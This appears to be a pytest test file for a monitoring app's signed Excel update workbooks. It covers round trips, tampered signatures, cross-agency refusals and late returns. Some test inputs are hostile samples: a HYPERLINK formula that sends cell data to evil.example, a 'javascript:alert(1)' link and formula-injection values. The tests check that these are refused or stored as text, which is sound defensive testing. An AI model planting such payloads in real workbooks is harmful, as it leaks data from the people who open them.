"""Update workbooks (issue 20): make an agency's workbook, fill it in with openpyxl as people do,
read it back. A round trip writes exactly what the update form writes; every refusal writes
nothing; a workbook returned twice applies once; an older workbook returned late never overwrites.
Real .xlsx files, a real database (SQLite, or PostgreSQL with MONITORING_TEST_BACKEND)."""

from __future__ import annotations

import io
import json
import shutil
from datetime import date

import openpyxl
import pytest

from monitoring import cli, db, services
from monitoring import update_workbook as wb
from tests.conftest import ANCHOR, BACKEND, scalar
from tests.conftest import records as rows

SECRET = "test-signing-key-0123456789abcdef-0123456789"
ADMIN = "admin@northbridge.example"
POLICE_LEAD = "police.lead@northbridge.example"
CSC_LEAD = "csc.lead@northbridge.example"


@pytest.fixture(autouse=True)
def _settings(monkeypatch, tmp_path):
    monkeypatch.setenv("MONITORING_TODAY", ANCHOR.isoformat())
    monkeypatch.setenv("MONITORING_EVIDENCE_DIR", str(tmp_path / "evidence"))
    monkeypatch.setenv(wb.SECRET_SETTING, SECRET)


@pytest.fixture
def twin_engine(request, tmp_path):
    """A second copy of the demo database: the same updates made there through the services,
    in the order the update form makes them."""
    template = request.getfixturevalue("demo_template")
    if BACKEND == "sqlite":
        path = tmp_path / "twin.db"
        shutil.copyfile(template, path)
        engine = db.make_engine(f"sqlite:///{path}")
        yield engine
        engine.dispose()
        return
    server = request.getfixturevalue("pg_server")
    name = server.create_database(template)
    engine = db.make_engine(server.url_for(name))
    yield engine
    engine.dispose()
    server.drop_database(name)


def actor(engine, email) -> services.Actor:
    return services.Actor.from_user(
        rows(engine, "select * from app_user where email = :e", e=email)[0]
    )


def agency_id(engine, short) -> int:
    return scalar(engine, "select id from agency where short_name = :s", s=short)


def dump(engine) -> dict:
    """Every table a read-back may write, with ids and times left out (compared as sorted rows)."""

    def table(query, drop=()):
        found = [{k: v for k, v in r.items() if k not in drop} for r in rows(engine, query)]
        return sorted(found, key=lambda r: json.dumps(r, sort_keys=True, default=str))

    return {
        "action": table("select * from action", drop=("updated_at",)),
        "action_update": table("select * from action_update", drop=("id", "created_at")),
        "evidence": table("select * from evidence", drop=("id", "uploaded_at")),
        "due_date_change": table("select * from due_date_change", drop=("id", "requested_at")),
        "audit_log": table(
            "select * from audit_log where field <> 'via' and entity <> 'sign_in'",
            drop=("id", "at"),
        ),
        "via": table("select * from audit_log where field = 'via'", drop=("id", "at")),
        "data_version": db.get_data_version(engine),
    }


def nothing_written(before: dict, engine) -> None:
    assert dump(engine) == before


# --- filling a workbook in, as a person would ---------------------------------------------------


def open_book(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content))


def save(book) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def header(sheet) -> dict[str, int]:
    for row in sheet.iter_rows(min_row=1, max_row=30):
        found = {str(c.value): c.column for c in row if c.value}
        if "Action id (do not change)" in found:
            return found
    raise AssertionError("no header row")


def row_of(sheet, action_id: int) -> int:
    col = header(sheet)["Action id (do not change)"]
    for row in sheet.iter_rows(min_row=1):
        if row[col - 1].value == action_id:
            return row[0].row
    raise AssertionError(f"action {action_id} not in the sheet")


HEADINGS = {
    "status": "Status",
    "note": "Progress note",
    "new_due_on": "New target date requested",
    "reason": "Reason (for the new target date, or for closing)",
    "evidence_url": "Evidence link",
    "action_id": "Action id (do not change)",
    "version": "Version (do not change)",
    "action": "Action",
    "review": "Review",
}


def fill(content: bytes, entries: dict[int, dict]) -> bytes:
    """Type ``{action id: {column key: value}}`` into the workbook and save it."""
    book = open_book(content)
    sheet = book[wb.SHEET]
    cols = header(sheet)
    for action_id, values in entries.items():
        number = row_of(sheet, action_id)
        for key, value in values.items():
            sheet.cell(row=number, column=cols[HEADINGS[key]], value=value)
    return save(book)


def workbook_ids(content: bytes) -> list[int]:
    sheet = open_book(content)[wb.SHEET]
    col = header(sheet)["Action id (do not change)"]
    first = wb.HEADER_ROW + 1
    return [r[col - 1].value for r in sheet.iter_rows(min_row=first) if r[col - 1].value]


def police_rows(engine) -> list[dict]:
    return rows(
        engine,
        "select a.*, (select count(*) from due_date_change d where d.action_id = a.id and "
        "d.decision = 'pending') as pending from action a where a.lead_agency_id = :a "
        "order by a.id",
        a=agency_id(engine, "POL"),
    )


def pick(engine, *, status: tuple[str, ...], pending: bool | None = None, skip=()) -> dict:
    for row in police_rows(engine):
        wanted = pending is None or bool(row["pending"]) == pending
        if row["status"] in status and row["id"] not in skip and wanted:
            return row
    raise AssertionError(f"no police action with status {status}")


# --- make ----------------------------------------------------------------------------------------


def test_make_lists_open_and_awaiting_assurance_worst_first_with_locked_guidance(demo_engine):
    admin = actor(demo_engine, ADMIN)
    police = agency_id(demo_engine, "POL")
    content = wb.make_workbook(demo_engine, admin, police)
    book = open_book(content)
    sheet = book[wb.SHEET]
    expected = rows(
        demo_engine,
        "select id, version, status, due_on from action where lead_agency_id = :a"
        " and status in ('not_started', 'in_progress', 'completed')",
        a=police,
    )
    assert sorted(workbook_ids(content)) == sorted(r["id"] for r in expected)
    assert {r["status"] for r in expected} >= {"completed", "in_progress"}

    cols = header(sheet)
    overdue = [
        sheet.cell(row=r, column=cols["Days overdue"]).value
        for r in range(wb.HEADER_ROW + 1, wb.HEADER_ROW + 1 + len(expected))
    ]
    assert overdue == sorted(overdue, reverse=True) and overdue[0] > 0
    first = expected[[r["id"] for r in expected].index(workbook_ids(content)[0])]
    assert overdue[0] == (ANCHOR - date.fromisoformat(first["due_on"])).days

    # Locked guidance, editable entries, hidden id and version, a protected sheet.
    assert sheet.protection.sheet is True
    data_row = wb.HEADER_ROW + 1
    for heading in (
        "Review",
        "Recommendation",
        "Action",
        "Action text",
        "Target date",
        "New target date awaiting the board",
    ):
        assert sheet.cell(row=data_row, column=cols[heading]).protection.locked is True
    for key in ("status", "note", "new_due_on", "reason", "evidence_url"):
        assert sheet.cell(row=data_row, column=cols[HEADINGS[key]]).protection.locked is False
    for key in ("action_id", "version"):
        letter = openpyxl.utils.get_column_letter(cols[HEADINGS[key]])
        assert sheet.column_dimensions[letter].hidden is True
    # The status drop-down offers the words a lead may set, and not "assured".
    lists = [dv for dv in sheet.data_validations.dataValidation if dv.type == "list"]
    assert len(lists) == 1
    words = lists[0].formula1.strip('"').split(",")
    assert words == [wb.status_word(s) for s in wb.LEAD_STATUSES]
    assert wb.status_word("assured") not in words
    # The signature sheet is very hidden and signs agency, ids, versions and time of issue.
    signed = book[wb.SIGNATURE_SHEET]
    assert signed.sheet_state == "veryHidden"
    found = {r[0].value: r[1].value for r in signed.iter_rows(max_row=7, max_col=2)}
    assert found["agency_id"] == police
    assert found["actions"] == len(expected)
    pairs = [list(r) for r in signed.iter_rows(min_row=8, max_col=2, values_only=True)]
    assert sorted(map(tuple, pairs)) == sorted((r["id"], r["version"]) for r in expected)
    assert found["signature"] == wb.sign(SECRET.encode(), police, found["issued_at"], pairs)


def test_make_refuses_without_a_signing_key_and_says_how_to_set_one(
    demo_engine, monkeypatch, tmp_path
):
    monkeypatch.delenv(wb.SECRET_SETTING)
    monkeypatch.setattr(wb.config, "PROJECT_ROOT", tmp_path)  # no .streamlit/secrets.toml
    with pytest.raises(wb.SecretMissing, match="MONITORING_WORKBOOK_SECRET.*secrets.toml"):
        wb.make_workbook(demo_engine, actor(demo_engine, ADMIN), agency_id(demo_engine, "POL"))
    monkeypatch.setenv(wb.SECRET_SETTING, "short")
    with pytest.raises(wb.SecretMissing, match="too short"):
        wb.make_workbook(demo_engine, actor(demo_engine, ADMIN), agency_id(demo_engine, "POL"))


def test_signing_key_from_secrets_toml(monkeypatch, tmp_path):
    monkeypatch.delenv(wb.SECRET_SETTING)
    (tmp_path / ".streamlit").mkdir()
    (tmp_path / ".streamlit" / "secrets.toml").write_text(f'{wb.SECRET_SETTING} = "{SECRET}x"\n')
    monkeypatch.setattr(wb.config, "PROJECT_ROOT", tmp_path)
    assert wb.secret_key() == (SECRET + "x").encode()


def test_a_lead_may_make_only_their_own_agencys_workbook(demo_engine):
    lead = actor(demo_engine, POLICE_LEAD)
    assert wb.make_workbook(demo_engine, lead, agency_id(demo_engine, "POL"))
    with pytest.raises(services.PermissionDenied):
        wb.make_workbook(demo_engine, lead, agency_id(demo_engine, "CSC"))
    with pytest.raises(services.PermissionDenied):
        wb.make_workbook(demo_engine, actor(demo_engine, "board@northbridge.example"), 1)


# --- the round trip ------------------------------------------------------------------------------


def test_round_trip_writes_exactly_what_the_form_writes(demo_engine, twin_engine):
    """Make, fill in, apply on one copy; the same updates through the services, in the update
    form's order, on the other: the same records, versions and audit rows (compared row by row,
    ids and times aside); the workbook's writes also carry one "via" audit row per record."""
    admin = actor(demo_engine, ADMIN)
    a1 = pick(demo_engine, status=("in_progress", "not_started"))
    a2 = pick(demo_engine, status=("in_progress", "not_started"), skip={a1["id"]})
    a3 = pick(
        demo_engine, status=("in_progress", "not_started"), pending=False, skip={a1["id"], a2["id"]}
    )
    a4 = pick(
        demo_engine, status=("in_progress", "not_started"), skip={a1["id"], a2["id"], a3["id"]}
    )
    done = pick(demo_engine, status=("completed",))
    new_due = date(2026, 12, 31)
    entries = {
        a1["id"]: {"status": "Completed (agency reports)", "note": "Audit of 40 referrals done."},
        a2["id"]: {"note": "Training booked.", "evidence_url": "https://example.org/plan.pdf"},
        a3["id"]: {"new_due_on": new_due, "reason": "Waiting for the new IT system."},
        a4["id"]: {"status": "Not implemented", "reason": "Replaced by the regional protocol."},
        done["id"]: {"status": "In progress", "note": "Reopened: the audit found gaps."},
    }
    content = wb.make_workbook(demo_engine, admin, agency_id(demo_engine, "POL"))
    result = wb.read_back(demo_engine, admin, fill(content, entries), apply=True)
    outcome = {r.action_id: r.outcome for r in result.rows}
    assert {i: outcome[i] for i in entries} == {i: "applied" for i in entries}
    assert set(outcome.values()) == {"applied", "unchanged"}

    twin_admin = actor(twin_engine, ADMIN)
    order = [r.action_id for r in result.rows if r.action_id in entries]
    calls = {
        a1["id"]: [("update", {"status": "completed", "note": "Audit of 40 referrals done."})],
        a2["id"]: [
            (
                "update",
                {
                    "status": a2["status"],
                    "note": "Training booked.",
                    "evidence_url": "https://example.org/plan.pdf",
                },
            )
        ],
        a3["id"]: [("due", (new_due, "Waiting for the new IT system."))],
        a4["id"]: [
            (
                "update",
                {"status": "not_implemented", "reason": "Replaced by the regional protocol."},
            )
        ],
        done["id"]: [
            ("update", {"status": "in_progress", "note": "Reopened: the audit found gaps."})
        ],
    }
    for action_id in order:
        version = scalar(twin_engine, "select version from action where id = :i", i=action_id)
        for kind, args in calls[action_id]:
            if kind == "update":
                saved = services.save_action_update(
                    twin_engine, twin_admin, action_id, version=version, **args
                )
                version = saved["version"]
            else:
                services.request_due_date_change(
                    twin_engine, twin_admin, action_id, args[0], args[1], version=version
                )
    mine, form = dump(demo_engine), dump(twin_engine)
    for table in ("action", "action_update", "evidence", "due_date_change", "audit_log"):
        assert mine[table] == form[table], table
    assert mine["data_version"] == form["data_version"]
    assert form["via"] == []
    # One via row per audited record written, with the workbook's words.
    sent_on = wb.day_words(result.sent.sent_on)
    expected = (
        f"returned workbook from Northbridge Police, sent {sent_on}, read by {ADMIN}; "
        f"workbook ref {result.sent.ref}"
    )
    via = rows(demo_engine, "select * from audit_log where field = 'via'")
    assert {v["new_value"] for v in via} == {expected}
    assert {v["actor"] for v in via} == {ADMIN}
    writes = rows(
        demo_engine,
        "select distinct entity, entity_id, at from audit_log where field <> 'via' and actor = :a"
        " and at >= (select min(at) from audit_log where field = 'via')",
        a=ADMIN,
    )
    assert len(via) == len(writes) == 6  # 4 action updates, 1 date request (+ its action row)


def test_people_leave_workbooks_as_they_do_moved_rows_blank_rows_text_dates_any_case(demo_engine):
    lead = actor(demo_engine, POLICE_LEAD)
    content = wb.make_workbook(demo_engine, lead, agency_id(demo_engine, "POL"))
    a1 = pick(demo_engine, status=("in_progress", "not_started"), pending=False)
    a2 = pick(demo_engine, status=("in_progress", "not_started"), skip={a1["id"]})
    done = pick(demo_engine, status=("completed",))
    book = open_book(
        fill(
            content,
            {
                a1["id"]: {
                    "new_due_on": "31/12/2026",
                    "reason": "  Staff shortage.  ",
                    "status": "in PROGRESS",
                },
                a2["id"]: {"status": "COMPLETED", "note": "Done."},
                done["id"]: {
                    "evidence_url": "https://example.org/audit.pdf",
                    "status": "completed (agency reports)",
                },
            },
        )
    )
    sheet = book[wb.SHEET]
    sheet.protection.sheet = False  # the lead unprotected the sheet
    # Rows moved (the last row first), blank rows between them, and an extra column.
    last = wb.HEADER_ROW + len(workbook_ids(content))
    sheet.insert_rows(wb.HEADER_ROW + 1, amount=2)
    moved = [c.value for c in sheet[last + 2]]
    for col, value in enumerate(moved, start=1):
        sheet.cell(row=wb.HEADER_ROW + 1, column=col, value=value)
        sheet.cell(row=last + 2, column=col).value = None
    sheet.insert_cols(3)
    sheet.cell(row=wb.HEADER_ROW, column=3, value="My own remarks")
    sheet.cell(row=wb.HEADER_ROW + 1, column=3, value="ask Sam")
    result = wb.read_back(demo_engine, lead, save(book), apply=True)
    outcome = {r.action_id: r for r in result.rows}
    assert outcome[a1["id"]].outcome == "applied", outcome[a1["id"]].detail
    assert outcome[a2["id"]].outcome == "applied", outcome[a2["id"]].detail
    assert outcome[done["id"]].outcome == "applied", outcome[done["id"]].detail
    assert len(result.rows) == len(workbook_ids(content))
    change = rows(
        demo_engine,
        "select * from due_date_change where action_id = :i and decision = 'pending'",
        i=a1["id"],
    )
    assert [(c["new_due_on"], c["reason"]) for c in change] == [("2026-12-31", "Staff shortage.")]
    assert (
        scalar(demo_engine, "select status from action where id = :i", i=a1["id"]) == a1["status"]
    )
    assert scalar(demo_engine, "select status from action where id = :i", i=a2["id"]) == "completed"
    assert (
        scalar(demo_engine, "select status from action where id = :i", i=done["id"]) == "completed"
    )
    assert (
        scalar(
            demo_engine,
            "select count(*) from evidence where action_id = :i and url = :u",
            i=done["id"],
            u="https://example.org/audit.pdf",
        )
        == 1
    )
    assert (
        scalar(
            demo_engine,
            "select count(*) from audit_log where field = 'via' and actor = :a and new_value like :t",
            a=POLICE_LEAD,
            t=f"returned workbook from Northbridge Police, sent %, read by {POLICE_LEAD}; %",
        )
        == 4
    )


@pytest.mark.parametrize(
    "typed",
    [
        "2026-12-31",
        "31/12/2026",
        "31.12.26",
        "31 December 2026",
        "31 Dec 2026",
        46387,
        date(2026, 12, 31),
    ],
)
def test_a_new_target_date_typed_any_way_is_read(demo_engine, typed):
    lead = actor(demo_engine, POLICE_LEAD)
    a1 = pick(demo_engine, status=("in_progress", "not_started"), pending=False)
    content = wb.make_workbook(demo_engine, lead, agency_id(demo_engine, "POL"))
    filled = fill(content, {a1["id"]: {"new_due_on": typed, "reason": "Later."}})
    result = wb.read_back(demo_engine, lead, filled, apply=True)
    assert [r.outcome for r in result.rows if r.action_id == a1["id"]] == ["applied"]
    assert (
        scalar(
            demo_engine,
            "select new_due_on from due_date_change where action_id = :i and decision = 'pending'",
            i=a1["id"],
        )
        == "2026-12-31"
    )


def test_an_evidence_link_made_a_hyperlink_is_read_from_its_target(demo_engine):
    admin = actor(demo_engine, ADMIN)
    a1 = pick(demo_engine, status=("in_progress", "not_started"))
    book = open_book(wb.make_workbook(demo_engine, admin, agency_id(demo_engine, "POL")))
    sheet = book[wb.SHEET]
    cell = sheet.cell(row=row_of(sheet, a1["id"]), column=header(sheet)["Evidence link"])
    cell.value = "Training plan"
    cell.hyperlink = "https://example.org/training-plan.pdf"
    result = wb.read_back(demo_engine, admin, save(book), apply=True)
    assert [r.outcome for r in result.rows if r.action_id == a1["id"]] == ["applied"]
    assert (
        scalar(
            demo_engine,
            "select url from evidence where action_id = :i order by id desc",
            i=a1["id"],
        )
        == "https://example.org/training-plan.pdf"
    )


def test_a_sheet_claiming_too_many_rows_is_refused_before_reading(demo_engine):
    admin = actor(demo_engine, ADMIN)
    book = open_book(wb.make_workbook(demo_engine, admin, agency_id(demo_engine, "POL")))
    book[wb.SHEET].cell(row=wb.HEADER_ROW + wb.MAX_ROWS + 5, column=1, value="x")
    before = dump(demo_engine)
    with pytest.raises(wb.WorkbookError, match="more than"):
        wb.read_back(demo_engine, admin, save(book), apply=True)
    nothing_written(before, demo_engine)


# --- refusals: nothing written -------------------------------------------------------------------


def test_a_file_that_is_not_ours_is_refused(demo_engine):
    admin = actor(demo_engine, ADMIN)
    before = dump(demo_engine)
    plain = openpyxl.Workbook()
    plain.active.append(["Action id (do not change)", "Version (do not change)", "Status"])
    with pytest.raises(wb.WorkbookError, match="not an update workbook made by this monitor"):
        wb.read_back(demo_engine, admin, save(plain), apply=True)
    with pytest.raises(wb.WorkbookError, match="not an Excel workbook"):
        wb.read_back(demo_engine, admin, b"PK\x03\x04 not really a zip", apply=True)
    with pytest.raises(wb.WorkbookError, match="empty"):
        wb.read_back(demo_engine, admin, b"", apply=True)
    nothing_written(before, demo_engine)


def test_a_signature_that_does_not_match_is_refused(demo_engine, monkeypatch):
    admin = actor(demo_engine, ADMIN)
    a1 = pick(demo_engine, status=("in_progress", "not_started"))
    content = fill(
        wb.make_workbook(demo_engine, admin, agency_id(demo_engine, "POL")),
        {a1["id"]: {"status": "Completed", "note": "done"}},
    )
    before = dump(demo_engine)
    # A version changed in the signed list, then the agency changed.
    for key, change in (
        (a1["id"], lambda v: v + 5),  # a version in the signed list
        ("agency_id", lambda v: v + 1),
        ("issued_at", lambda v: "2026-01-01T00:00:00+00:00"),
        ("actions", lambda v: v - 1),  # the last action left out
    ):
        book = open_book(content)
        signed = book[wb.SIGNATURE_SHEET]
        for row in signed.iter_rows(max_col=2):
            if row[0].value == key:
                row[1].value = change(row[1].value)
        with pytest.raises(wb.WorkbookError, match="signature does not match"):
            wb.read_back(demo_engine, admin, save(book), apply=True)
    # The agency's name is not what names it: the signed id is.
    book = open_book(content)
    for row in book[wb.SIGNATURE_SHEET].iter_rows(max_col=2):
        if row[0].value == "agency":
            row[1].value = "Somebody Else"
    preview = wb.read_back(demo_engine, admin, save(book))
    assert preview.sent.agency == "Northbridge Police"
    assert "from Northbridge Police" in wb.via_text(preview.sent, admin)
    # Signed with another key.
    monkeypatch.setenv(wb.SECRET_SETTING, SECRET + "-other")
    with pytest.raises(wb.WorkbookError, match="signature does not match"):
        wb.read_back(demo_engine, admin, content, apply=True)
    nothing_written(before, demo_engine)


def test_a_lead_cannot_read_back_another_agencys_workbook(demo_engine):
    content = wb.make_workbook(
        demo_engine, actor(demo_engine, ADMIN), agency_id(demo_engine, "POL")
    )
    before = dump(demo_engine)
    with pytest.raises(wb.WorkbookError, match="for Northbridge Police"):
        wb.read_back(demo_engine, actor(demo_engine, CSC_LEAD), content, apply=True)
    nothing_written(before, demo_engine)


def test_a_row_for_another_agencys_action_is_refused(demo_engine):
    admin = actor(demo_engine, ADMIN)
    csc = wb.make_workbook(demo_engine, admin, agency_id(demo_engine, "CSC"))
    csc_sheet = open_book(csc)[wb.SHEET]
    csc_row = [c.value for c in csc_sheet[wb.HEADER_ROW + 1]]
    book = open_book(wb.make_workbook(demo_engine, admin, agency_id(demo_engine, "POL")))
    sheet = book[wb.SHEET]
    target = sheet.max_row + 2
    for col, value in enumerate(csc_row, start=1):  # the row pasted in, with its hidden cells
        sheet.cell(row=target, column=col, value=value)
    cols = header(sheet)
    sheet.cell(row=target, column=cols["Status"], value="Completed")
    sheet.cell(row=target, column=cols["Progress note"], value="Pasted from the other file")
    before = dump(demo_engine)
    result = wb.read_back(demo_engine, admin, save(book), apply=True)
    refused = [r for r in result.rows if r.outcome == "refused"]
    assert [r.row for r in refused] == [target]
    assert (
        "led by Northbridge Council Children's Social Care, not Northbridge Police"
        in refused[0].detail
    )
    assert {r.outcome for r in result.rows} == {"refused", "unchanged"}
    nothing_written(before, demo_engine)


@pytest.mark.parametrize("what", ["id_text", "id_other_action", "version", "shown_action"])
def test_a_changed_hidden_id_or_version_is_refused(demo_engine, what):
    admin = actor(demo_engine, ADMIN)
    a1 = pick(demo_engine, status=("in_progress", "not_started"))
    a2 = pick(demo_engine, status=("in_progress", "not_started"), skip={a1["id"]})
    assured = rows(
        demo_engine,
        "select id from action where lead_agency_id = :a and status = 'assured' order by id",
        a=agency_id(demo_engine, "POL"),
    )[0]["id"]
    content = wb.make_workbook(demo_engine, admin, agency_id(demo_engine, "POL"))
    entry = {"status": "Completed", "note": "done"}
    entry |= {
        "id_text": {"action_id": "12a"},
        "id_other_action": {"action_id": assured},
        "version": {"version": a1["version"] + 1},
        "shown_action": {"action_id": a2["id"]},  # the id of another row: rows sorted apart
    }[what]
    if what == "shown_action":
        book = open_book(content)
        sheet = book[wb.SHEET]
        cols = header(sheet)
        r1, r2 = row_of(sheet, a1["id"]), row_of(sheet, a2["id"])
        sheet.cell(row=r1, column=cols["Action id (do not change)"], value=a2["id"])
        sheet.cell(row=r1, column=cols["Version (do not change)"], value=a2["version"])
        sheet.cell(row=r2, column=cols["Action id (do not change)"]).value = None
        sheet.cell(row=r2, column=cols["Version (do not change)"]).value = None
        sheet.cell(row=r1, column=cols["Status"], value="Completed")
        filled = save(book)
    else:
        filled = fill(content, {a1["id"]: entry})
    before = dump(demo_engine)
    result = wb.read_back(demo_engine, admin, filled, apply=True)
    refused = [r for r in result.rows if r.outcome == "refused"]
    assert refused, [(r.row, r.outcome, r.detail) for r in result.rows]
    message = {
        "id_text": "hidden action id is '12a'",
        "id_other_action": "was not in this workbook when it was sent",
        "version": "hidden version was changed",
        "shown_action": "sorted without the hidden columns",
    }[what]
    assert any(message in r.detail for r in refused), [r.detail for r in refused]
    assert not [r for r in result.rows if r.outcome in ("apply", "applied")]
    nothing_written(before, demo_engine)


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        ({"status": "Assured (evidence seen)"}, "not a status a lead may set"),
        ({"status": "assured"}, "Assurance is the board's decision"),
        ({"status": "Finished-ish"}, "not a status a lead may set"),
        ({"note": "x" * (services.MAX_NOTE_CHARS + 1)}, f"at most {services.MAX_NOTE_CHARS}"),
        ({"status": "Superseded"}, "needs a reason"),
        ({"new_due_on": "soon", "reason": "r"}, "'soon' is not a date"),
        ({"new_due_on": "2026-12-31"}, "needs its reason"),
        ({"evidence_url": "javascript:alert(1)"}, "evidence link"),
        ({"status": "=A1"}, "'=A1' is not a status"),
        ({"new_due_on": "=TODAY()", "reason": "r"}, "'=TODAY()' is not a date"),
    ],
)
def test_entries_the_lead_may_not_make_are_refused_with_the_reason(demo_engine, entry, message):
    admin = actor(demo_engine, ADMIN)
    a1 = pick(demo_engine, status=("in_progress", "not_started"), pending=False)
    content = wb.make_workbook(demo_engine, admin, agency_id(demo_engine, "POL"))
    before = dump(demo_engine)
    result = wb.read_back(demo_engine, admin, fill(content, {a1["id"]: entry}), apply=True)
    [row] = [r for r in result.rows if r.action_id == a1["id"]]
    assert row.outcome == "refused"
    assert message in row.detail
    nothing_written(before, demo_engine)


def test_a_new_target_date_without_a_reason_names_the_row_action_and_columns(demo_engine):
    admin = actor(demo_engine, ADMIN)
    a1 = pick(demo_engine, status=("in_progress", "not_started"), pending=False)
    content = wb.make_workbook(demo_engine, admin, agency_id(demo_engine, "POL"))
    filled = fill(content, {a1["id"]: {"new_due_on": "31/12/2026"}})
    result = wb.read_back(demo_engine, admin, filled, apply=False)
    [row] = [r for r in result.rows if r.action_id == a1["id"]]
    [line] = [t for t in wb.report_lines(result) if t.startswith(f"  row {row.row} ")]
    assert "()" not in line
    assert line.endswith(
        f"Refused — New target date requested: {wb.day_words(date(2026, 12, 31))} — Row "
        f"{row.row}, action {row.number} of {row.review_ref}: the new target date "
        f"({wb.day_words(date(2026, 12, 31))}, column 'New target date requested') needs its "
        "reason in the column 'Reason (for the new target date, or for closing)'."
    )


def test_a_formula_in_an_editable_cell_is_read_as_its_text(demo_engine):
    admin = actor(demo_engine, ADMIN)
    a1 = pick(demo_engine, status=("in_progress", "not_started"))
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    content = wb.make_workbook(demo_engine, admin, agency_id(demo_engine, "POL"))
    filled = fill(content, {a1["id"]: {"note": formula}})
    sheet = open_book(filled)[wb.SHEET]
    assert (
        sheet.cell(row=row_of(sheet, a1["id"]), column=header(sheet)["Progress note"]).data_type
        == "f"
    )
    result = wb.read_back(demo_engine, admin, filled, apply=True)
    assert [r.outcome for r in result.rows if r.action_id == a1["id"]] == ["applied"]
    notes = rows(
        demo_engine,
        "select progress_note from action_update where action_id = :i order by id desc",
        i=a1["id"],
    )
    assert notes[0]["progress_note"] == formula


# --- returned twice, returned out of order -------------------------------------------------------


def test_a_workbook_returned_twice_applies_once(demo_engine):
    lead = actor(demo_engine, POLICE_LEAD)
    a1 = pick(demo_engine, status=("in_progress", "not_started"))
    a2 = pick(demo_engine, status=("in_progress", "not_started"), skip={a1["id"]})
    content = wb.make_workbook(demo_engine, lead, agency_id(demo_engine, "POL"))
    filled = fill(
        content,
        {a1["id"]: {"status": "Completed"}, a2["id"]: {"note": "Half of the staff trained."}},
    )
    first = wb.read_back(demo_engine, lead, filled, apply=True)
    assert sorted(r.action_id for r in first.rows if r.outcome == "applied") == sorted(
        [a1["id"], a2["id"]]
    )
    after_first = dump(demo_engine)
    # Read back again, by the board office this time: every row "unchanged", nothing written.
    admin = actor(demo_engine, ADMIN)
    preview = wb.read_back(demo_engine, admin, filled)
    second = wb.read_back(demo_engine, admin, filled, apply=True)
    for result in (preview, second):
        assert {r.outcome for r in result.rows} == {"unchanged"}
        again = [r for r in result.rows if r.action_id in (a1["id"], a2["id"])]
        assert all("Already read in from this workbook" in r.detail for r in again)
        assert all(POLICE_LEAD in r.detail for r in again)
    nothing_written(after_first, demo_engine)


def test_an_older_workbook_returned_late_reports_conflicts_and_overwrites_nothing(demo_engine):
    admin = actor(demo_engine, ADMIN)
    lead = actor(demo_engine, POLICE_LEAD)
    police = agency_id(demo_engine, "POL")
    x = pick(demo_engine, status=("in_progress", "not_started"))
    y = pick(demo_engine, status=("in_progress", "not_started"), skip={x["id"]})
    z = pick(demo_engine, status=("in_progress", "not_started"), skip={x["id"], y["id"]})
    older = wb.make_workbook(demo_engine, admin, police, issued_at="2026-06-01T09:00:00+00:00")
    # The lead updates x in the app, then a newer workbook is made and returned first.
    services.save_action_update(
        demo_engine, lead, x["id"], version=x["version"], note="In the app."
    )
    newer = wb.make_workbook(demo_engine, admin, police, issued_at="2026-06-20T09:00:00+00:00")
    newer_filled = fill(
        newer,
        {x["id"]: {"status": "Completed", "note": "Newer: done."}, y["id"]: {"note": "Newer: y."}},
    )
    assert {
        r.outcome
        for r in wb.read_back(demo_engine, lead, newer_filled, apply=True).rows
        if r.action_id in (x["id"], y["id"])
    } == {"applied"}
    expected = {
        i: rows(demo_engine, "select status, version from action where id = :i", i=i)[0]
        for i in (x["id"], y["id"])
    }
    older_filled = fill(
        older,
        {
            x["id"]: {"status": "Not started", "note": "Older: not started."},
            y["id"]: {"status": "In progress", "note": "Older: y."},
            z["id"]: {"note": "Older: z, untouched since."},
        },
    )
    before = dump(demo_engine)
    result = wb.read_back(demo_engine, lead, older_filled, apply=True)
    by_id = {r.action_id: r for r in result.rows}
    assert by_id[x["id"]].outcome == "conflict"
    assert by_id[y["id"]].outcome == "conflict"
    assert by_id[z["id"]].outcome == "applied"
    conflict = by_id[x["id"]]
    assert conflict.sent_version == x["version"]
    assert conflict.current["version"] == expected[x["id"]]["version"]
    assert conflict.current["status"] == "completed"
    assert any(c["field"] == "status" and c["new_value"] == "completed" for c in conflict.since)
    assert "Nothing was overwritten" in conflict.detail
    # Nothing of the older rows in conflict was written; z's note was.
    for i in (x["id"], y["id"]):
        assert (
            rows(demo_engine, "select status, version from action where id = :i", i=i)[0]
            == expected[i]
        )
    older_notes = scalar(
        demo_engine, "select count(*) from action_update where progress_note like 'Older:%'"
    )
    assert older_notes == 1
    after = dump(demo_engine)
    assert after["action_update"] != before["action_update"]


# --- the command line ----------------------------------------------------------------------------


def test_command_line_make_and_apply(demo_engine, database_url, monkeypatch, tmp_path, capsys):
    monkeypatch.setenv("MONITORING_DATABASE_URL", database_url)
    db.dispose_engines()
    out = tmp_path / "police.xlsx"
    assert cli.main(["workbook", "make", "--agency", "POL", "--out", str(out)]) == 0
    assert out.stat().st_mode & 0o777 == 0o600
    a1 = pick(demo_engine, status=("in_progress", "not_started"))
    out.write_bytes(fill(out.read_bytes(), {a1["id"]: {"status": "Completed", "note": "CLI."}}))
    before = dump(demo_engine)
    capsys.readouterr()
    assert cli.main(["workbook", "apply", str(out), "--dry-run"]) == 0
    printed = capsys.readouterr().out
    assert "preview (nothing written)" in printed and "Will apply" in printed
    nothing_written(before, demo_engine)
    assert cli.main(["workbook", "apply", str(out), "--as", POLICE_LEAD]) == 0
    printed = capsys.readouterr().out
    assert "1 applied" in printed
    assert scalar(demo_engine, "select status from action where id = :i", i=a1["id"]) == "completed"
    assert (
        scalar(
            demo_engine,
            "select count(*) from audit_log where field = 'via' and actor = :a",
            a=POLICE_LEAD,
        )
        == 1
    )
    # An agency brought in by an import has no short name: choosing by name still works.
    with demo_engine.begin() as conn:
        conn.execute(db.agency.insert().values(name="Imported Trust", active=True))
    imported = tmp_path / "imported.xlsx"
    assert cli.main(["workbook", "make", "--agency", "Imported Trust", "--out", str(imported)]) == 0
    assert imported.exists()
    # Unknown agency, a file not ours, no key: exit 1 with a message, nothing written.
    assert (
        cli.main(["workbook", "make", "--agency", "nope", "--out", str(tmp_path / "x.xlsx")]) == 1
    )
    (tmp_path / "plain.xlsx").write_bytes(save(openpyxl.Workbook()))
    assert cli.main(["workbook", "apply", str(tmp_path / "plain.xlsx")]) == 1
    monkeypatch.setattr(wb.config, "PROJECT_ROOT", tmp_path)
    monkeypatch.delenv(wb.SECRET_SETTING)
    assert cli.main(["workbook", "make", "--agency", "POL", "--out", str(tmp_path / "y.xlsx")]) == 1
